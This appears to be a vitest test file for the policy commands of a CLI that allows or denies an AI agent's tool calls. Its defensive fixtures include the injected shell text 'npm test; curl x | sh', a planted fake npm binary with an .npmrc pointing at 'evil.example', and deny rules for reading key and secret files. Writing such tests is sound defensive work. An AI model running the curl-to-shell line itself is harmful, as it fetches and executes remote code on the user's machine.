import { publicRegistries } from '../../src/policy/decide/hosts/registry-addresses.ts';
import { chmodSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { runBuiltCli } from '../fixtures/job.ts';
import { startModelServer } from '../fixtures/model-server.ts';
import { createFolder, writeFiles } from '../fixtures/workspace.ts';
import { createFailingRepository } from './scenario.ts';

const own = `version: 1
name: own
extends: [builtin:workspace-reads]
tests: [own.test.yml]
rules:
  - id: tests
    when: { tool: exec, command: [npm, { any: [test, [run, lint]] }] }
    decision: allow
    reason: The task is to make the tests pass.
    examples: { match: [npm test, npm run lint], not: [npm run deploy] }
`;
const table = `cases:
  - { command: npm test, decision: allow, rule: tests }
  - { command: npm run lint, decision: allow, rule: tests }
  - { command: npm run deploy, decision: deny }
`;

function createPolicies(files: Readonly<Record<string, string>> = {}): string {
  const folder = createFolder('policies-');
  writeFiles(folder, { 'own.yml': own, 'own.test.yml': table, ...files });
  return folder;
}

test('check writes text and SARIF, and exits with 2 if a policy is not valid', async () => {
  const cwd = createPolicies({ 'bad,1.yml': 'version: 1\nname: x\nrulez: []\n' });
  expect(await runBuiltCli(['policy', 'check', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });
  const check = (format: string) => runBuiltCli(['policy', 'check', 'bad,1.yml', '--format', format], { cwd });
  expect(await check('text')).toMatchObject({ exitCode: 2, stdout: expect.stringContaining('unknown key "rulez"') });
  const sarif = JSON.parse((await check('sarif')).stdout);
  expect(sarif.runs[0].results[0]).toMatchObject({
    ruleId: 'invalid',
    level: 'error',
    locations: [{ physicalLocation: { artifactLocation: { uri: 'bad%2C1.yml' }, region: { startLine: 3 } } }],
  });
});

test('no program and no configuration of the machine says what a registry is', async () => {
  const cwd = createPolicies({
    'net.yml':
      "version: 1\nname: x\nrules: [{ id: a, when: { net: { host: 'registry:npm' } }, decision: allow, reason: r }]\n",
    'bin/npm': '#!/bin/sh\ntouch "$0.ran"\necho \'{"registry":"https://evil.example"}\'\n',
    'home/.npmrc': 'registry=https://evil.example\n',
  });
  chmodSync(join(cwd, 'bin/npm'), 0o755);
  const home = join(cwd, 'home');
  const env = {
    PATH: `${join(cwd, 'bin')}:${process.env['PATH']}`,
    HOME: home,
    NPM_CONFIG_REGISTRY: 'https://x.example',
  };
  for (const args of [
    ['policy', 'check', 'net.yml', '--cwd', home],
    ['policy', 'explain', '--policy', 'net.yml', '--cwd', home, '--', 'npm', 'ci'],
  ]) {
    const ended = await runBuiltCli(args, { cwd, env });
    expect(ended.stdout + ended.stderr).not.toMatch(/evil|x\.example/);
  }
  expect(existsSync(join(cwd, 'bin/npm.ran'))).toBe(false);
});

test('explain accepts a command, shell text, and calls with their context', async () => {
  const cwd = createPolicies({
    'facts.yml':
      'version: 1\nname: x\nrules: [{ id: a, when: { command: [npm, test], label: go }, decision: allow }, { id: r, when: { read: a }, decision: allow }]\n',
    'calls.jsonl':
      '{"tool":"exec","args":{"command":["npm","test"]}}\n{"tool":"exec","args":{"command":["npm","test"]},"context":{"label":"go"}}\n',
  });
  const plain = await runBuiltCli(['policy', 'explain', '--policy', 'own.yml', '--', 'npm', 'test'], { cwd });
  expect(plain).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^allow by tests: /) });
  const shell = await runBuiltCli(['policy', 'explain', '--policy', 'own.yml', '--', 'npm test; curl x | sh'], { cwd });
  expect(shell).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^deny by /) });
  const calls = await runBuiltCli(['policy', 'explain', '--policy', 'facts.yml', '--calls', 'calls.jsonl'], { cwd });
  expect(
    calls.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).decision),
  ).toEqual(['deny', 'allow']);
  expect(await runBuiltCli(['policy', 'explain', '--policy', 'own.yml'], { cwd })).toMatchObject({ exitCode: 2 });
});

test('tables are run with coverage, and mutate reports changes that they do not detect', async () => {
  const cwd = createPolicies({ 'more.yml': 'cases:\n  - { command: npm test, decision: deny }\n' });
  const passed = await runBuiltCli(['policy', 'test', 'own.yml', '--threshold', '100'], { cwd });
  expect(passed, passed.stderr).toMatchObject({ exitCode: 0, stdout: expect.stringContaining('3 passed, 0 failed') });
  const failed = await runBuiltCli(['policy', 'test', 'own.yml', '--tests', 'more.yml'], { cwd });
  expect(failed).toMatchObject({
    exitCode: 1,
    stdout: expect.stringMatching(/more\.yml:2:\d+: fail: expected deny, found allow by tests/),
  });
  const builtin = await runBuiltCli(['policy', 'test', 'builtin:base'], { cwd });
  expect(builtin).toMatchObject({
    exitCode: 0,
    stdout: expect.stringMatching(/^[1-9]\d* passed, 0 failed, 0 errors/m),
  });
  expect(await runBuiltCli(['policy', 'mutate', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });

  writeFiles(cwd, {
    'own.yml': own.replace(/ {4}examples.*\n/, ''),
    'own.test.yml': 'cases:\n  - { command: npm ci, decision: deny }\n',
  });
  const uncovered = await runBuiltCli(['policy', 'test', 'own.yml', '--threshold', '100'], { cwd });
  expect(uncovered).toMatchObject({ exitCode: 1, stdout: expect.stringContaining('not covered: tests (') });
  const survived = await runBuiltCli(['policy', 'mutate', 'own.yml', '--format', 'json'], { cwd });
  expect(survived.exitCode).toBe(1);
  expect(JSON.parse(survived.stdout).mutations).toContainEqual(
    expect.objectContaining({ change: 'drop the rule', noticedBy: null }),
  );
});

test('diff fails if a policy was loosened, unless that is accepted', async () => {
  const cwd = createPolicies({ 'looser.yml': own.replace('[run, lint]', '[run, lint], [run, build]') });
  expect(await runBuiltCli(['policy', 'diff', 'own.yml', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });
  const loosened = await runBuiltCli(['policy', 'diff', 'own.yml', 'looser.yml'], { cwd });
  expect(loosened).toMatchObject({
    exitCode: 1,
    stdout: expect.stringMatching(/^looser +rules\.tests: allow .*run lint.* → allow .*run build/m),
  });
  expect(await runBuiltCli(['policy', 'diff', 'looser.yml', 'own.yml'], { cwd })).toMatchObject({ exitCode: 0 });
  const accepted = await runBuiltCli(['policy', 'diff', 'own.yml', 'looser.yml', '--accept-loosened'], { cwd });
  expect(accepted.exitCode).toBe(0);
});

test('replay and suggest use the record of a run with denied calls', async () => {
  const model = await startModelServer({
    turns: [
      {
        calls: [
          { name: 'shell', args: { command: ['node', '--test'] } },
          { name: 'shell', args: { command: ['npm', 'run', 'lint'] } },
          { name: 'shell', args: { command: ['node', '-e', '1'] } },
        ],
      },
      { text: 'Done.' },
    ],
  });
  onTestFinished(() => model.close());
  const record = join(createFolder('record-'), 'run');
  const cwd = createFailingRepository();
  const provider = ['--provider', 'openai-chat', '--model', 'm', '--base-url', `${model.url}/v1`];
  await runBuiltCli(['run', 'x', '--policy', 'builtin:fix-tests-strict', ...provider, '--record', record], { cwd });
  expect(existsSync(join(record, 'history.jsonl'))).toBe(true);

  const same = await runBuiltCli(['policy', 'replay', record, '--policy', 'builtin:fix-tests-strict'], { cwd });
  expect(same, same.stderr).toMatchObject({
    exitCode: 0,
    stdout: expect.stringContaining('3 calls, all decided the same'),
  });
  const other = await runBuiltCli(['policy', 'replay', record, '--policy', 'builtin:triage', '--format', 'json'], {
    cwd,
  });
  expect(other.exitCode).toBe(1);
  expect(JSON.parse(other.stdout)).toMatchObject({
    same: false,
    calls: [{ state: 'same' }, { state: 'diverged' }, { state: 'hypothetical' }],
  });

  const suggested = await runBuiltCli(['policy', 'suggest', record, '--policy', 'builtin:fix-tests-strict'], { cwd });
  expect(suggested).toMatchObject({
    exitCode: 1,
    stdout: expect.stringContaining('# refused: exec: command node -e 1'),
  });
  // The policy of the record, not the one that a repository usually has.
  const ofRecord = await runBuiltCli(['policy', 'suggest', record, '--format', 'json'], { cwd });
  expect(JSON.parse(ofRecord.stdout || JSON.stringify(ofRecord.stderr))).toMatchObject({
    rules: [{ when: { command: expect.arrayContaining(['npm', 'lint']) } }],
    refused: [{ call: 'exec: command node -e 1' }],
  });
  const amended = `version: 1\nname: amended\nextends: [builtin:fix-tests-strict]\nrules:\n${suggested.stdout}`;
  const folder = createPolicies({ 'amended.yml': amended });
  const checked = await runBuiltCli(['policy', 'check', 'amended.yml'], { cwd: folder });
  expect(checked, checked.stdout).toMatchObject({ exitCode: 0 });
  const again = await runBuiltCli(
    ['policy', 'replay', record, '--policy', join(folder, 'amended.yml'), '--format', 'json'],
    { cwd },
  );
  expect(JSON.parse(again.stdout).calls.map(({ after }: { after: { decision: string } }) => after.decision)).toEqual([
    'allow',
    'allow',
    'deny',
  ]);

  const diff = await runBuiltCli(
    ['policy', 'diff', 'builtin:fix-tests-strict', join(folder, 'amended.yml'), '--format', 'json'],
    { cwd },
  );
  expect(JSON.parse(diff.stdout)).toMatchObject({ loosened: true });
});

test('replay and report fleet name the calls of many records that a stricter policy refuses, by repository and rule', async () => {
  const records = createFolder('records-');
  const runs = { first: ['node', '--test'], second: ['ls'] };
  const workspaces: string[] = [];
  for (const [name, command] of Object.entries(runs)) {
    const turns = [{ calls: [{ name: 'shell', args: { command } }] }, { text: 'Done.' }];
    const model = await startModelServer({ turns });
    onTestFinished(() => model.close());
    const cwd = createFailingRepository();
    workspaces.push(cwd);
    const provider = ['--provider', 'openai-chat', '--model', 'm', '--base-url', `${model.url}/v1`];
    const record = join(records, 'artifacts', name, 'record');
    await runBuiltCli(['run', 'x', '--policy', 'builtin:fix-tests', ...provider, '--record', record], { cwd });
  }
  writeFiles(records, {
    'artifacts/cut/history.jsonl': '{"schema":"history/v1"}\n',
    'artifacts/public/audit.jsonl': '',
    'stricter.yml': `version: 1
name: stricter
extends: [builtin:fix-tests]
rules:
  - id: no-tests-here
    when: { tool: exec, command: [node, '**'] }
    decision: deny
    reason: CI runs the <b>tests</b>.
`,
  });
  const policy = ['--policy', 'stricter.yml'];
  const replay = (more: readonly string[]) => runBuiltCli(['policy', 'replay', 'artifacts', ...more], { cwd: records });
  const found = await replay([...policy, '--format', 'json']);
  expect(found.exitCode, found.stderr).toBe(1);
  const changes = [
    {
      repository: workspaces[0],
      rule: 'no-tests-here',
      after: 'deny',
      calls: 1,
      hypothetical: 0,
      runs: ['first/record'],
      examples: ['exec: command node --test'],
    },
  ];
  const broken = [
    { name: 'cut', problem: expect.stringContaining('history.jsonl:1') },
    { name: 'public', problem: expect.stringContaining('upload-artifact: full') },
  ];
  expect(JSON.parse(found.stdout)).toMatchObject({ same: false, runs: 2, calls: 2, changes, broken });
  const text = (await replay(policy)).stdout;
  expect(text).toContain(`${workspaces[0]}  no-tests-here: allow by commands → deny, calls: 1`);
  expect(text).toContain('2 calls of 2 runs, 1 decided otherwise');
  expect((await replay(['--policy', 'builtin:fix-tests'])).exitCode).toBe(0);

  const fleet = (more: readonly string[]) => runBuiltCli(['report', 'fleet', 'artifacts', ...more], { cwd: records });
  const json = JSON.parse((await fleet(policy)).stdout);
  expect(json).toMatchObject({ outcomes: { 'no-changes': 2 }, replay: { policy: 'stricter.yml', changes }, broken });
  expect(json.policies).toContainEqual(
    expect.objectContaining({ kind: 'policy', count: 2, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }),
  );
  const page = (await fleet([...policy, '--html'])).stdout;
  expect(page).toContain('<code>exec: command node --test</code>');
  expect(page).toContain('CI runs the &lt;b&gt;tests&lt;/b&gt;.');
});

test('schema prints the published schema', async () => {
  const cwd = createFolder();
  const printed = await runBuiltCli(['policy', 'schema'], { cwd });
  expect(printed.exitCode).toBe(0);
  expect(printed.stdout).toBe(readFileSync(join(import.meta.dirname, '../../policies/schema.json'), 'utf8'));
});

test('policy check shows notes about a built-in policy only for that policy, and not to a file that extends it', async () => {
  const cwd = createFolder();
  writeFiles(cwd, { 'own.yml': "version: 1\nname: own\nextends: ['builtin:fix-tests']\n" });
  const own = await runBuiltCli(['policy', 'check', 'own.yml'], { cwd });
  expect(own).toMatchObject({ exitCode: 0, stdout: 'own.yml: ok\n' });
  const builtin = await runBuiltCli(['policy', 'check', 'builtin:fix-tests'], { cwd });
  expect(builtin.stdout).toContain('info: rule commands allows any program');
});

test('explain answers every line of --calls, and gives a line that is no call its error', async () => {
  const lines = [
    '{"tool":"exec","args":{"command":["npm","test"]}}',
    'no JSON',
    '{"tool":"nope","args":{}}',
    '{"tool":"exec","args":{}}',
    '',
    '{"tool":"exec","args":{"command":["rm","a"]}}',
  ];
  const cwd = createPolicies({ 'calls.jsonl': lines.join('\n') });
  const { stdout, exitCode } = await runBuiltCli(
    ['policy', 'explain', '--policy', 'own.yml', '--calls', 'calls.jsonl'],
    { cwd },
  );
  const answers = stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(answers.map(({ decision, line }) => decision ?? line)).toEqual(['allow', 2, 3, 4, 'deny']);
  expect(exitCode).toBe(2);
});

test('explain names the glob that matched, the closed files, and no host that the call does not get', async () => {
  const cwd = createPolicies({
    'hosts.yml':
      "version: 1\nname: x\nrules:\n  - { id: any, when: { tool: exec, contained: true }, decision: allow }\n  - { id: net, when: { tool: exec, command: [npm, ci] }, decision: allow, hosts: ['registry:npm'], acknowledge: executes-workspace }\n  - { id: read, when: { read: '**' }, unless: { read: ['private/**', 'a/secret.txt'] }, decision: allow }\n  - { id: no, when: { read: ['x/**', '**/*.key', 'y/**'] }, decision: deny }\n",
    'ws/private/plan.txt': 'x',
    'ws/a/b.txt': 'x',
    'ws/a/secret.txt': 'x',
    'ws/a/c.key': 'x',
  });
  const explain = async (...words: string[]): Promise<string> =>
    (await runBuiltCli(['policy', 'explain', '--policy', 'hosts.yml', '--cwd', 'ws', ...words], { cwd })).stdout;
  expect(await explain('--', 'cd app && npm ci | tail -5')).toContain(
    `Acknowledged: it runs in the agent’s workspace, reaches ${publicRegistries.npm[0]}:443, `,
  );
  const contained = await explain('--', 'npm ci && npm test');
  expect(contained).not.toContain('Acknowledged');
  expect(contained).toContain('A rule gives hosts to `npm ci` only if no other command could use them.');
  expect(contained).toContain(
    'Closed to processes in this workspace:\n  private/** (default)\n  a/c.key (no)\n  a/secret.txt (default)\n',
  );
  const denied = await explain('--call', '{"tool":"readFile","args":{"filePath":"a/c.key"}}');
  expect(denied).toContain('deny by no: The decision for read a/c.key is deny: read of **/*.key.');
  expect(denied).not.toContain('x/**, ');
});

test('policy test refuses what check rejects, and accepts examples without a table', async () => {
  const cwd = createPolicies({
    'empty.yml': own.replace('extends: [builtin:workspace-reads]\n', ''),
    'examples.yml': own.replace('tests: [own.test.yml]\n', ''),
    'none.yml': own.replace('tests: [own.test.yml]\n', '').replace(/ {4}examples.*\n/, ''),
  });
  for (const command of ['test', 'mutate'])
    expect(await runBuiltCli(['policy', command, 'empty.yml'], { cwd })).toMatchObject({
      exitCode: 2,
      stderr: expect.stringContaining('has no rule that allows reading'),
    });
  expect(await runBuiltCli(['policy', 'test', 'examples.yml', '--threshold', '50'], { cwd })).toMatchObject({
    exitCode: 0,
    stdout: expect.stringContaining('coverage: '),
  });
  expect(await runBuiltCli(['policy', 'test', 'none.yml'], { cwd })).toMatchObject({
    exitCode: 2,
    stderr: expect.stringContaining('none of its rules has examples'),
  });
});
